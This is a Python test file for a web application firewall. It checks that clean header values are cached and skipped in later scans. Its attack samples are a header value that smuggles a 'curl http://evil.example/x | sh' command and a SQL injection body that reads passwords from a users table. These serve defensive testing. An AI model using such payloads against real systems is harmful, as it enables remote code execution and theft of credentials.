"""Header values a whole inspection found clean are left out of the next inspections' scans."""

from __future__ import annotations

import copy
import json
from pathlib import Path

from fw_helpers import views_scanned

from hullguard.firewall import Firewall
from hullguard.firewall.memo import MAX_ENTRIES

BROWSER_EVENT = Path(__file__).resolve().parents[2] / "examples" / "events" / "apigw-benign.json"
USER_AGENT = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
)


def _browser_event() -> dict[str, object]:
    """The benign browser request, with a header of no standard shape whose value the SQL prefilter
    matches (an apostrophe): a view whenever the header is looked at."""
    event: dict[str, object] = json.loads(BROWSER_EVENT.read_text())
    event["headers"]["X-Customer-Note"] = "O'Neil, leave at the door"  # type: ignore[index]
    return event


def _header_views(views: list[tuple[str, str]]) -> set[str]:
    return {where for where, _ in views if where.startswith("headers.")}


def test_clean_header_values_are_scanned_once() -> None:
    firewall = Firewall()
    event = _browser_event()
    first = firewall.inspect(event)
    assert not first.findings
    assert "headers.x-customer-note" in _header_views(views_scanned(Firewall(), event))
    assert _header_views(views_scanned(firewall, event)) == set()
    again = firewall.inspect(event)
    assert not again.findings
    assert again.strings_scanned == first.strings_scanned  # still counted as looked at


def test_a_new_value_in_a_remembered_header_is_inspected() -> None:
    firewall = Firewall()
    firewall.inspect(_browser_event())
    attack = _browser_event()
    attack["headers"]["User-Agent"] = USER_AGENT + "; $(curl http://evil.example/x | sh)"  # type: ignore[index]
    findings = firewall.inspect(attack).findings
    assert ("cmdi", "headers.user-agent") in {(f.attack, f.location) for f in findings}


def test_an_event_with_a_finding_remembers_none_of_its_header_values() -> None:
    firewall = Firewall()
    event = _browser_event()
    event["body"] = json.dumps({"name": "x' UNION SELECT password FROM users--"})
    assert firewall.inspect(event).findings
    assert "headers.x-customer-note" in _header_views(views_scanned(firewall, event))


def test_a_value_clean_at_one_paranoia_level_is_inspected_again_at_another() -> None:
    firewall = Firewall()
    event = _browser_event()
    firewall.inspect(event)
    firewall.policy = firewall.policy._replace(paranoia=firewall.policy.paranoia + 1)
    assert "headers.x-customer-note" in _header_views(views_scanned(firewall, event))


def test_forget_and_the_bound_empty_the_clean_values() -> None:
    firewall = Firewall()
    event = _browser_event()
    firewall.inspect(event)
    firewall.forget()
    assert "headers.x-customer-note" in _header_views(views_scanned(firewall, event))
    for i in range(MAX_ENTRIES + 10):
        variant = copy.deepcopy(event)
        variant["headers"]["X-Request-Id"] = f"req-{i}"  # type: ignore[index]
        firewall.inspect(variant)
    assert len(firewall._memo._clean) <= MAX_ENTRIES
